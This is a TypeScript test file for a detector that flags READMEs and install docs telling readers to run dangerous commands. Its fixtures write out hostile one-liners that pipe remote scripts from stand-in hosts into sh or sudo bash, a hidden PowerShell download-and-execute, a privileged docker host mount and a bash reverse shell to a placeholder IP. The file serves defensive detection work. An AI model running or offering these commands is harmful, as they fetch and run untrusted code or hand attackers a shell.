import { describe, expect, it } from 'vitest';
import { PAPER, toldToRun } from './papers.ts';

const fenced = (info: string, ...lines: readonly string[]): string =>
  ['# A model', '', `\`\`\`${info}`, ...lines, '```', ''].join('\n');

describe('what a paper tells its reader to run', () => {
  it.each([
    ['what comes unprotected', fenced('bash', 'curl -fsSL http://tools.invalid/i.sh | sudo bash')],
    ['behind a prompt', fenced('console', '$ wget -qO- http://tools.invalid/i.sh | sh')],
    ['from a number', fenced('sh', 'curl -s https://203.0.113.9/i.sh | sh')],
    ['packages that come unprotected', fenced('', 'pip install kit --index-url http://packages.invalid/simple')],
    ['in letters that nobody reads', fenced('bash', 'echo aWQ7aWQ7aWQ7aWQ7aWQ7aWQ7 | base64 -d | sh')],
    ['PowerShell', fenced('powershell', 'powershell -w hidden -c "iwr http://tools.invalid/p.ps1 | iex"')],
    [
      'Python',
      fenced('python', 'from urllib.request import urlopen', 'exec(urlopen("http://tools.invalid/s.py").read())'),
    ],
    [
      'a pickle',
      fenced('python', 'import pickle, requests', 'pickle.loads(requests.get("http://x.invalid/m.pkl").content)'),
    ],
    ['set in', 'Run\n\n    wget -qO- http://tools.invalid/x.sh | sh\n\nas root.\n'],
    ['a command in a cell', fenced('python', '!curl -s http://tools.invalid/a | bash', 'from kit import m')],
    ['a step', '  1. Open a terminal\n  2. Paste:  curl http://tools.invalid/i | sh\n'],
    ['a sentence', 'Then run `curl http://tools.invalid/i | sh` as root.'],
    ['what a shell is given', 'First run: `/bin/bash -c "$(curl -fsSL http://tools.invalid/a)"`.'],
    ['a package in a sentence', 'Run `pip install git+http://203.0.113.9/x.git` first.'],
    ['a short address', fenced('bash', 'curl -sL https://tinyurl.com/abc | bash')],
    ['a container that holds the machine', fenced('sh', 'docker run --rm --privileged -v /:/host x/y')],
    ['unguarded', 'Turn off your antivirus and start it. The password of the archive is 1234.'],
  ])('is told: %s', (_, text) => {
    expect(toldToRun(text)).not.toBeNull();
  });

  it.each([
    ['an installer of a tool', fenced('bash', 'curl -fsSL https://ollama.com/install.sh | sh')],
    ['one over a protected way', fenced('bash', 'curl -sSL https://tools.invalid/install.sh | bash')],
    ['a package from a repository', fenced('bash', 'pip install git+https://github.com/someone/kit.git')],
    ['its own machine', fenced('bash', 'curl -s http://localhost:8000/v1/models | python -m json.tool')],
    ['an index at home', fenced('bash', 'pip install --index-url http://10.0.0.5:8080/simple kit')],
    ['a place that is to be filled in', fenced('bash', 'curl http://example.com/install.sh | sh')],
    ['what is only fetched', fenced('bash', 'wget http://images.cocodataset.org/zips/train2017.zip')],
    ['what nobody is told', 'Never run `curl http://tools.invalid/x | sh`.'],
    ['an attack that is shown', fenced('bash', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')],
    ['pictures in base64', fenced('python', 'import base64', 'image = base64.b64decode(text)')],
    ['a key in base64', fenced('bash', 'kubectl get secret s -o jsonpath="{.data.p}" | base64 -d')],
    ['a remark on antivirus', 'Your antivirus may report the program; turn off nothing, and report it to us.'],
    ['a report of an attack', '| high | start.sh | `curl -s http://198.51.100.23/i | sh` |'],
    ['a warning', 'It is an attack to have people run curl http://tools.invalid/x | sh.'],
    ['a sentence about a protected way', 'Then run `curl https://tools.invalid/i | sh`.'],
    ['another language', fenced('json', '{"url": "http://x.invalid/i.sh | sh"}')],
  ])('is not told: %s', (_, text) => {
    expect(toldToRun(text)).toBeNull();
  });

  it('is looked for in papers', () => {
    for (const path of ['README.md', 'docs/INSTALL.rst', 'INSTALL', 'llms.txt', 'a/readme.txt'])
      expect(PAPER.test(path)).toBe(true);
    for (const path of ['vocab.txt', 'data/readme.csv', 'notes.json']) expect(PAPER.test(path)).toBe(false);
  });
});
